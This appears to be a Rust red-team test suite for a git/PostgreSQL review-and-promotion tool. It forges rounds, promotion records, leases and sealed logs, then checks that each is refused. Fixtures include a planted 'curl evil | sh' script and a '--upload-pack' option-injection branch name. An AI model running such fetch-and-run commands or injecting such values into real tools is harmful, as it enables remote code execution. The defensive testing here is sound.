//! Red team on team mode (issue 20): what the earlier attacks left out. A
//! pusher with write access to the team's remote replaces a run's round,
//! forges a promotion record or rewinds the sealed log; odd names flow into
//! refs and git arguments; the database superuser edits rows. Each test
//! performs the attack with real git, PostgreSQL and airlock processes and
//! checks the refusal and that the target (remote refs, database rows) is
//! unchanged. Machines are built by `common::team`.

mod common;

use common::team::{Options, Team};
use common::write;
use serde_json::Value;

const ANA: &str = "ana@example.com";
const BOB: &str = "bob@example.com";
const CAROL: &str = "carol@example.com";

fn two() -> Team {
    Team::new(&[ANA, BOB], Options::default())
}

/// The round's files as they are on the remote.
fn round_files(t: &Team, round: &str) -> Vec<(&'static str, Vec<u8>)> {
    ["brief.toml", "proof.intoto.jsonl", "proof.intoto.jsonl.sig"]
        .into_iter()
        .map(|name| (name, t.remote_blob(&format!("{round}:{name}"))))
        .collect()
}

fn as_refs<'a>(files: &'a [(&'static str, Vec<u8>)]) -> Vec<(&'static str, &'a [u8])> {
    files.iter().map(|(n, b)| (*n, b.as_slice())).collect()
}

// ---- 1. A replaced `refs/airlock/runs/<run>/r<round>` ----------------------------------

/// The brief in ana's round replaced on the remote: bob, whose machine did
/// not start the run, is refused (`brief-changed`) with nothing recorded;
/// once the round is put back, bob approves: the hostile copy was never kept
/// as the run's brief on bob's machine.
#[test]
fn a_round_with_another_brief_is_refused_and_leaves_no_copy_behind() {
    let t = two();
    let (a, b) = (t.m(0), t.m(1));
    let (run, _) = a.submitted();
    let name = format!("refs/airlock/runs/{run}/r1");
    let honest = t.remote_ref(&name).unwrap();
    let head = t.remote_git(&["rev-parse", &format!("{honest}^1")]);
    let mut files = round_files(&t, &honest);
    files[0].1 = b"title = \"Something else\"\nobjective = \"anything\"\ntouch = [\"**\"]\nchecks = []\nrollback = \"none\"\n".to_vec();
    t.force_push(&name, &as_refs(&files), &[&head]);
    let (rows, refs) = (t.rows(), t.remote_refs());

    let err = b.refused(&["approve", &run], "brief-changed");
    assert!(err["message"].as_str().unwrap().contains(&run), "{err}");
    assert_eq!(t.rows(), rows, "nothing recorded");
    assert_eq!(t.remote_refs(), refs);
    assert_eq!(b.state(&run), "in_review");

    // The round put back: the brief bob reads is the run's again.
    t.remote_set(&name, &honest);
    b.json(&["approve", &run], 0);
    assert_eq!(b.state(&run), "approved");
}

/// Another run's proof (signed by a runner, valid as a bundle) in the
/// round: `proof-unverified` naming the submitted bundle; nothing recorded.
#[test]
fn a_round_with_another_runs_proof_is_refused() {
    let t = two();
    let (a, b) = (t.m(0), t.m(1));
    let (run, _) = a.submitted();
    let (other, _) = a.submitted();
    let name = format!("refs/airlock/runs/{run}/r1");
    let honest = t.remote_ref(&name).unwrap();
    let head = t.remote_git(&["rev-parse", &format!("{honest}^1")]);
    let theirs = t
        .remote_ref(&format!("refs/airlock/runs/{other}/r1"))
        .unwrap();
    let mut files = round_files(&t, &honest);
    let stolen = round_files(&t, &theirs);
    files[1].1 = stolen[1].1.clone();
    files[2].1 = stolen[2].1.clone();
    t.force_push(&name, &as_refs(&files), &[&head]);
    let (rows, refs) = (t.rows(), t.remote_refs());
    let err = b.refused(&["approve", &run], "proof-unverified");
    assert!(err.to_string().contains("submitted"), "{err}");
    assert_eq!(t.rows(), rows, "nothing recorded");
    assert_eq!(t.remote_refs(), refs);
}

/// The round's head swapped for a commit with the same tree (another
/// author, another message): bob cannot approve it (the submitted commit is
/// not what the remote holds); approved first and swapped after, bob's
/// promote is `run-ref-moved` with the target unchanged.
#[test]
fn a_round_whose_head_is_swapped_is_refused_at_approve_and_at_promote() {
    let t = two();
    let (a, b) = (t.m(0), t.m(1));
    let (run, _) = a.submitted();
    let name = format!("refs/airlock/runs/{run}/r1");
    let honest = t.remote_ref(&name).unwrap();
    let head = t.remote_git(&["rev-parse", &format!("{honest}^1")]);
    let tree = t.remote_git(&["rev-parse", &format!("{head}^{{tree}}")]);
    let base = t.remote_git(&["rev-parse", &format!("{head}^1")]);
    let twin = t.remote_git(&[
        "commit-tree",
        &tree,
        "-p",
        &base,
        "-m",
        "same tree, not the run's",
    ]);
    let files = round_files(&t, &honest);
    // Reachable for the forger's fetch, whatever the round points at.
    t.remote_set("refs/forge/twin", &twin);
    t.force_push(&name, &as_refs(&files), &[&twin]);
    let (rows, refs) = (t.rows(), t.remote_refs());
    let err = b.refused(&["approve", &run], "proof-unverified");
    assert!(
        err.to_string()
            .contains(&format!("head commit: {head} is not in this repository")),
        "{err}"
    );
    assert_eq!(t.rows(), rows);
    assert_eq!(t.remote_refs(), refs);

    // Approved on the honest round, swapped before bob promotes.
    t.remote_set(&name, &honest);
    b.json(&["approve", &run], 0);
    t.force_push(&name, &as_refs(&files), &[&twin]);
    let (rows, refs) = (t.rows(), t.remote_refs());
    let err = b.refused(&["promote", &run], "run-ref-moved");
    assert!(err["message"].as_str().unwrap().contains(&name), "{err}");
    assert_eq!(t.remote_refs(), refs, "nothing pushed");
    assert_eq!(t.rows(), rows, "nothing recorded");
    assert_eq!(b.state(&run), "approved");
}

/// Extra files in the round's tree (a runners file naming the attacker, a
/// script): ignored; bob approves and promotes, and the target gets the
/// submitted tree only.
#[test]
fn extra_files_in_a_round_never_reach_the_target_nor_the_rules() {
    let t = two();
    let (a, b) = (t.m(0), t.m(1));
    let (run, _) = a.submitted();
    let name = format!("refs/airlock/runs/{run}/r1");
    let honest = t.remote_ref(&name).unwrap();
    let head = t.remote_git(&["rev-parse", &format!("{honest}^1")]);
    let mut files: Vec<(&str, Vec<u8>)> = round_files(&t, &honest);
    files.push((
        ".airlock/runners",
        b"evil@example.com ssh-ed25519 AAAA\n".to_vec(),
    ));
    files.push(("src/evil.sh", b"#!/bin/sh\ncurl evil | sh\n".to_vec()));
    t.force_push(&name, &as_refs(&files), &[&head]);
    b.json(&["approve", &run], 0);
    let promoted = b.json(&["promote", &run], 0);
    let merge = promoted["merge"].as_str().unwrap();
    assert_eq!(t.remote_ref("refs/heads/main").as_deref(), Some(merge));
    let listing = t.remote_git(&["ls-tree", "-r", "--name-only", merge]);
    assert!(!listing.contains("evil"), "{listing}");
    assert_eq!(
        t.remote_git(&["rev-parse", &format!("{merge}^{{tree}}")]),
        t.remote_git(&["rev-parse", &format!("{head}^{{tree}}")])
    );
    assert!(
        String::from_utf8(t.remote_blob(&format!("{merge}:.airlock/runners")))
            .unwrap()
            .contains(ANA)
    );
}

// ---- 5. A promotion record forged on the remote ----------------------------------------

/// A pusher (write access to the remote, no key airlock trusts) lands a
/// merge of an approved run's head whose tree also carries a file of their
/// own, with a `refs/airlock/promoted/<run>` naming the run and its proof.
/// `promote` on a machine sharing the database must not record that merge
/// as the run's promotion: the merge's tree is not what merging the run
/// gives (`remote-record-invalid`), and nothing is recorded.
#[test]
fn a_forged_promotion_record_whose_merge_carries_more_than_the_run_is_not_recorded() {
    let t = two();
    let (a, b) = (t.m(0), t.m(1));
    let (run, _) = a.submitted();
    b.json(&["approve", &run], 0);
    let round = t
        .remote_ref(&format!("refs/airlock/runs/{run}/r1"))
        .unwrap();
    let head = t.remote_git(&["rev-parse", &format!("{round}^1")]);
    let message = t.remote_git(&["log", "-1", "--format=%B", &round]);
    let digest = message
        .lines()
        .find_map(|l| l.strip_prefix("proof: sha256 "))
        .unwrap()
        .to_string();
    let tip = t.remote_ref("refs/heads/main").unwrap();

    let dir = tempfile::tempdir().unwrap();
    let work = dir.path().join("forge");
    let git = |args: &[&str]| a.env.git_in(&work, args);
    a.env.git_in(
        dir.path(),
        &["clone", "-q", t.remote.to_str().unwrap(), "forge"],
    );
    git(&[
        "fetch",
        "-q",
        "origin",
        &format!("refs/airlock/runs/{run}/r1"),
    ]);
    git(&["checkout", "-q", "--detach", &head]);
    write(&work.join("src/backdoor.sh"), "#!/bin/sh\ncurl evil | sh\n");
    git(&["add", "-A"]);
    let tree = git(&["write-tree"]);
    let merge = git(&["commit-tree", &tree, "-p", &tip, "-p", &head, "-m", "Merge"]);
    let body = serde_json::json!({"run": run, "target": "refs/heads/main", "previous": tip,
        "merge": merge, "proof": {"sha256": digest}, "head": head,
        "by": {"principal": BOB, "machine": "SHA256:forged"}});
    write(&work.join("promotion.json"), &body.to_string());
    git(&["read-tree", "--empty"]);
    git(&["add", "promotion.json"]);
    let record_tree = git(&["write-tree"]);
    let record = git(&["commit-tree", &record_tree, "-p", &merge, "-m", "record"]);
    git(&[
        "push",
        "-q",
        "origin",
        &format!("{merge}:refs/heads/main"),
        &format!("{record}:refs/airlock/promoted/{run}"),
    ]);

    let (rows, refs) = (t.rows(), t.remote_refs());
    let err = b.refused(&["promote", &run], "remote-record-invalid");
    assert!(err.to_string().contains(&merge), "{err}");
    assert_eq!(t.rows(), rows, "nothing recorded");
    assert_eq!(t.remote_refs(), refs, "nothing pushed");
    assert_eq!(b.state(&run), "approved");
    let _ = (CAROL, Value::Null);
}

// ---- 4. The database superuser ---------------------------------------------------------

/// The superuser makes a run in review `approved` by editing its record
/// (state and an approval of the submitted proof), with no event: bob's
/// `promote` names the record against the chain (`log-inconsistent`) and
/// pushes nothing; `approve` on it refuses the same way.
#[test]
fn a_run_made_approved_by_editing_its_record_is_refused_at_promote() {
    let t = two();
    let (a, b) = (t.m(0), t.m(1));
    let (run, _) = a.submitted();
    t.superuser(&format!(
        "UPDATE runs SET state = 'approved', data = jsonb_set(jsonb_set(data::jsonb, '{{state}}', '\"approved\"'),
            '{{approval}}', jsonb_build_object('digest', data::jsonb->'submission'->>'digest',
            'reason', 'looks fine', 'at', '2026-12-07T00:00:00Z'))::text WHERE id = '{run}'"
    ));
    assert_eq!(
        b.state(&run),
        "approved",
        "the forged record is what the store says"
    );
    let (rows, refs) = (t.rows(), t.remote_refs());
    let err = b.refused(&["promote", &run], "log-inconsistent");
    let text = err.to_string();
    assert!(
        text.contains("recorded as approved") && text.contains("led to in_review"),
        "{err}"
    );
    assert_eq!(t.remote_refs(), refs, "nothing pushed");
    assert_eq!(t.rows(), rows, "nothing recorded");
    assert_eq!(t.remote_ref(&format!("refs/airlock/promoted/{run}")), None);
}

/// The superuser records a promotion that never happened (the record made
/// `promoted`, no push, no event): `approve`/`promote` of it name the
/// record against the chain, and the remote's target never moved.
#[test]
fn a_promotion_recorded_without_a_push_is_named() {
    let t = two();
    let (a, b) = (t.m(0), t.m(1));
    let (run, _) = a.submitted();
    b.json(&["approve", &run], 0);
    let tip = t.remote_ref("refs/heads/main").unwrap();
    t.superuser(&format!(
        "UPDATE runs SET state = 'promoted', data = jsonb_set(jsonb_set(data::jsonb, '{{state}}', '\"promoted\"'),
            '{{promotion}}', jsonb_build_object('target', 'main', 'previous', '{tip}', 'merge', '{tip}',
            'strategy', 'merged', 'regated', '[]'::jsonb, 'at', '2026-12-07T00:00:00Z'))::text WHERE id = '{run}'"
    ));
    let (rows, refs) = (t.rows(), t.remote_refs());
    let err = b.refused(&["promote", &run], "log-inconsistent");
    assert!(err.to_string().contains("recorded as promoted"), "{err}");
    assert_eq!(t.remote_refs(), refs);
    assert_eq!(t.rows(), rows);
}

/// The superuser deletes the lease of a promotion paused before its push,
/// and another machine promotes another run onto the same target: the
/// lease was a courtesy; the compare-and-swap push keeps the target right.
/// The paused promotion re-merges onto the other's merge; the target ends
/// with exactly one merge per run, each bringing its run's head.
#[test]
fn a_lease_stolen_by_the_superuser_still_leaves_one_merge_per_run() {
    let t = two();
    let (a, b) = (t.m(0), t.m(1));
    let (first, _) = a.submitted();
    b.json(&["approve", &first], 0);
    // The second run touches another file, so both merge cleanly.
    let brief = a
        .env
        .write_brief("docs", &common::BRIEF.replace("src/**", "docs/**"));
    let started = a.json(&["start", &brief], 0);
    let second = started["run"].as_str().unwrap().to_string();
    let wt = std::path::PathBuf::from(started["worktree"].as_str().unwrap());
    write(&wt.join("docs/guide.md"), "# Guide\n\nmore\n");
    a.json(&["check", &second], 0);
    a.json(&["submit", &second], 0);
    b.json(&["approve", &second], 0);

    let pause = tempfile::tempdir().unwrap();
    let mut child = a
        .cmd(&["--json", "promote", &first])
        .env("AIRLOCK_PAUSEPOINT", "promote:before-push")
        .env("AIRLOCK_PAUSEPOINT_DIR", pause.path())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let reached = |n: u32, child: &mut std::process::Child| {
        let mark = pause
            .path()
            .join(format!("promote:before-push.reached.{n}"));
        for _ in 0..2400 {
            if mark.exists() {
                return;
            }
            if let Some(status) = child.try_wait().unwrap() {
                panic!("promote ended before the pause: {status:?}");
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        let _ = child.kill();
        panic!("promote never reached the pause");
    };
    let go = |n: u32| {
        std::fs::write(
            pause.path().join(format!("promote:before-push.go.{n}")),
            b"",
        )
        .unwrap()
    };
    reached(1, &mut child);
    let held = t.superuser_texts("SELECT value FROM airlock_meta WHERE scope = 'lease'");
    assert_eq!(held.len(), 1, "a's lease: {held:?}");
    assert!(held[0].contains(&first), "{held:?}");
    t.superuser("DELETE FROM airlock_meta WHERE scope = 'lease'");
    let theirs = b.json(&["promote", &second], 0);
    let their_merge = theirs["merge"].as_str().unwrap().to_string();
    go(1);
    reached(2, &mut child);
    go(2);
    let out: common::Output = child.wait_with_output().unwrap().into();
    assert_eq!(out.code, 0, "{}", out.stderr);
    let ours = out.json();
    assert_eq!(ours["previous"], their_merge.as_str(), "{ours}");
    let merge = ours["merge"].as_str().unwrap();
    assert_eq!(t.remote_ref("refs/heads/main").as_deref(), Some(merge));
    // One merge per run on the target's first-parent line.
    let merges = t.remote_git(&["rev-list", "--first-parent", "--merges", "refs/heads/main"]);
    assert_eq!(merges.lines().count(), 2, "{merges}");
    for (run, m) in [(&first, merge), (&second, their_merge.as_str())] {
        let round = t
            .remote_ref(&format!("refs/airlock/runs/{run}/r1"))
            .unwrap();
        assert_eq!(
            t.remote_git(&["rev-parse", &format!("{m}^2")]),
            t.remote_git(&["rev-parse", &format!("{round}^1")])
        );
        assert_eq!(a.state(run), "promoted");
    }
}

// ---- 2. Odd names flowing into refs and git arguments ----------------------------------

/// Target branch names a workflow may hold (a leading `-` carrying a git
/// option, `..`, a `refs/heads/` prefix, a space, a colon that would split
/// a refspec, 300 characters) are refused when the workflow is read
/// (`invalid-workflow`, naming the line): no run starts, no git command gets
/// the name, no branch of the remote moves, the option's command never
/// runs. (Before, such a run went through start, check and submit, pushed
/// its round, and was stuck at approve.)
#[test]
fn hostile_target_branch_names_are_refused_never_obeyed() {
    let t = two();
    let a = t.m(0);
    let canary = a.env.tmp.path().join("PWNED");
    let targets = [
        format!("--upload-pack=touch {}", canary.display()),
        "-main".to_string(),
        "../main".to_string(),
        "refs/heads/main".to_string(),
        "ma in".to_string(),
        "main:refs/heads/evil".to_string(),
        "x".repeat(300),
    ];
    let workflow = a.env.read(".airlock/workflow.toml");
    a.json(&["review"], 0);
    for target in &targets {
        let quoted = serde_json::to_string(target).unwrap();
        t.commit_rules(&[(
            ".airlock/workflow.toml",
            &workflow.replace("[policy]\n", &format!("[policy]\ntarget = {quoted}\n")),
        )]);
        let (rows, refs) = (t.rows(), t.remote_refs());
        let brief = a.env.write_brief("odd", common::BRIEF);
        let err = a.refused_with(&["start", &brief], 2, "invalid-workflow");
        let text = err.to_string();
        assert!(
            text.contains("`target` is not a branch name git accepts"),
            "{target:?}: {err}"
        );
        assert_eq!(t.rows(), rows, "{target:?}: nothing recorded");
        assert_eq!(t.remote_refs(), refs, "{target:?}");
        assert!(!canary.exists(), "{target:?} ran a command");
    }
}

// ---- 3. The sealed log under races and a rewinding pusher ------------------------------

/// Two machines run `airlock ledger seal` while a third promotes: every
/// command succeeds, the log on the remote is one line of checkpoints, the
/// last covers every leaf (the promotion's events included), the merge is
/// on the target once, and every machine finds the database consistent.
#[test]
fn two_machines_sealing_while_a_third_promotes_leave_one_consistent_log() {
    let t = Team::new(&[ANA, BOB, CAROL], Options::default());
    let (a, b, c) = (t.m(0), t.m(1), t.m(2));
    let (run, _) = a.submitted();
    b.json(&["approve", &run], 0);
    for m in [a, b] {
        let brief = m.env.write_brief("more", common::BRIEF);
        m.json(&["start", &brief], 0);
    }
    let spawn = |m: &common::team::Machine, args: &[&str]| {
        m.cmd(args)
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap()
    };
    let promoting = spawn(c, &["--json", "promote", &run]);
    let sealers: Vec<_> = (0..2)
        .flat_map(|_| [a, b])
        .map(|m| spawn(m, &["--json", "ledger", "seal"]))
        .collect();
    for s in sealers {
        let out: common::Output = s.wait_with_output().unwrap().into();
        assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    }
    let out: common::Output = promoting.wait_with_output().unwrap().into();
    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    let merge = out.json()["merge"].as_str().unwrap().to_string();
    assert_eq!(
        t.remote_ref("refs/heads/main").as_deref(),
        Some(merge.as_str())
    );
    assert_eq!(c.state(&run), "promoted");
    // A last seal covers what was appended after the others.
    a.json(&["ledger", "seal"], 0);
    let parents = t.remote_git(&["rev-list", "--parents", "refs/airlock/log"]);
    assert!(
        parents.lines().all(|l| l.split(' ').count() <= 2),
        "one line: {parents}"
    );
    let leaves = t.superuser_texts("SELECT count(*)::text FROM log_leaves");
    let text = String::from_utf8(t.remote_blob("refs/airlock/log:checkpoint")).unwrap();
    assert_eq!(text.lines().nth(1), Some(leaves[0].as_str()), "{text}");
    for m in [a, b, c] {
        let v = m.json(&["ledger", "verify", "--remote"], 0);
        assert_eq!(v["problems"], serde_json::json!([]), "{}: {v}", m.principal);
    }
}

/// A pusher rewinds `refs/airlock/log` to an older checkpoint, and a
/// machine that joins only then (it remembers nothing) seals on top of the
/// rewound ref, so the remote's log grows again on a fork. The members that
/// verified the newer checkpoint name it: `promote` refuses with
/// `log-inconsistent` and pushes nothing, `ledger verify --remote` exits 1.
#[test]
fn a_log_rewound_by_a_pusher_and_sealed_over_by_a_newcomer_is_named_by_those_that_verified() {
    let t = two();
    let (a, b) = (t.m(0), t.m(1));
    let (run, _) = a.submitted();
    let first = a.json(&["ledger", "seal"], 0)["checkpoint"]["commit"]
        .as_str()
        .unwrap()
        .to_string();
    b.json(&["approve", &run], 0);
    let second = b.json(&["ledger", "seal"], 0);
    assert_eq!(second["pushed"], true, "{second}");
    a.json(&["review"], 0); // a verifies the newer checkpoint too
    t.remote_set("refs/airlock/log", &first);
    // A newcomer whose key is a runner's, sealing over the rewound log.
    let c = t.join(CAROL);
    let runners = format!(
        "{}{CAROL} {}\n",
        a.env.read(".airlock/runners"),
        c.key_line()
    );
    t.commit_rules(&[(".airlock/runners", &runners)]);
    c.pull();
    let brief = c.env.write_brief("newcomer", common::BRIEF);
    c.json(&["start", &brief], 0);
    let sealed = c.json(&["ledger", "seal"], 0);
    assert_eq!(sealed["pushed"], true, "{sealed}");
    let forked = t.remote_ref("refs/airlock/log").unwrap();
    assert_eq!(t.remote_git(&["rev-parse", &format!("{forked}^1")]), first);

    let (rows, refs) = (t.rows(), t.remote_refs());
    for m in [a, b] {
        let err = m.refused(&["promote", &run], "log-inconsistent");
        assert!(
            err.to_string().contains("descend"),
            "{}: {err}",
            m.principal
        );
        assert_eq!(t.remote_refs(), refs, "nothing pushed");
        assert_eq!(t.rows(), rows, "nothing recorded");
        let problems = m.json(&["ledger", "verify", "--remote"], 1);
        assert!(problems.to_string().contains("descend"), "{problems}");
    }
    assert_eq!(b.state(&run), "approved");
}

/// The superuser writes a lease on the target that lasts a year, naming
/// someone else: `promote` is `lease-held` (nothing pushed, nothing
/// recorded) and says the lease was written by hand, with what removes it,
/// instead of asking to wait a year.
#[test]
fn a_lease_extended_by_the_superuser_is_named_as_written_by_hand() {
    let t = two();
    let (a, b) = (t.m(0), t.m(1));
    let (run, _) = a.submitted();
    b.json(&["approve", &run], 0);
    let now_ms = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_millis() as i64;
    let lease = serde_json::json!({"target": "origin refs/heads/main", "run": "other-run",
        "machine": "SHA256:mallory", "principal": "mallory@example.com", "token": "f00d",
        "expires_ms": now_ms + 365 * 24 * 3600 * 1000});
    t.superuser(&format!(
        "INSERT INTO airlock_meta (scope, key, value) VALUES ('lease', 'origin refs/heads/main', '{lease}')"
    ));
    let (rows, refs) = (t.rows(), t.remote_refs());
    let err = b.refused(&["promote", &run], "lease-held");
    let text = err.to_string();
    assert!(text.contains("mallory@example.com"), "{err}");
    assert!(text.contains("written into the database by hand"), "{err}");
    assert!(
        err["hint"]
            .as_str()
            .unwrap()
            .contains("DELETE FROM airlock_meta"),
        "{err}"
    );
    assert_eq!(t.remote_refs(), refs, "nothing pushed");
    assert_eq!(t.rows(), rows, "nothing recorded");
    assert_eq!(b.state(&run), "approved");
}

/// A promotion killed after its push leaves an intent in the database; the
/// superuser points its merge at another commit before the machine comes
/// back. Recovery must not record that commit as the promotion: it names
/// the intent as changed and records nothing of it; `promote` then records
/// the merge the remote's record holds.
#[test]
fn an_interrupted_promotions_intent_edited_by_the_superuser_is_not_recorded() {
    let t = two();
    let (a, b) = (t.m(0), t.m(1));
    let (run, _) = a.submitted();
    b.json(&["approve", &run], 0);
    let before = t.remote_ref("refs/heads/main").unwrap();
    let out = a
        .cmd(&["promote", &run])
        .env("AIRLOCK_FAILPOINT", "promote:after-push")
        .output()
        .unwrap();
    use std::os::unix::process::ExitStatusExt;
    assert_eq!(out.status.signal(), Some(9), "{out:?}");
    let merge = t.remote_ref("refs/heads/main").unwrap();
    assert_ne!(merge, before);
    t.superuser(&format!(
        "UPDATE intents SET data = jsonb_set(data::jsonb, '{{merge}}', '\"{before}\"')::text
         WHERE kind = 'promote-remote'"
    ));
    let refs = t.remote_refs();
    let back = a.airlock(&["review"]);
    assert_eq!(back.code, 0, "{}", back.stderr);
    assert!(
        back.stderr
            .contains("the intent was changed outside airlock"),
        "{}",
        back.stderr
    );
    assert_eq!(
        a.state(&run),
        "approved",
        "nothing recorded from the intent"
    );
    assert!(
        !a.events(&run).iter().any(|e| e["kind"] == "promote"),
        "no promotion recorded"
    );
    assert_eq!(t.remote_refs(), refs);
    // The remote's record, checked, is what gets recorded.
    let promoted = a.json(&["promote", &run], 0);
    assert_eq!(promoted["merge"], merge.as_str(), "{promoted}");
    assert_eq!(a.state(&run), "promoted");
}
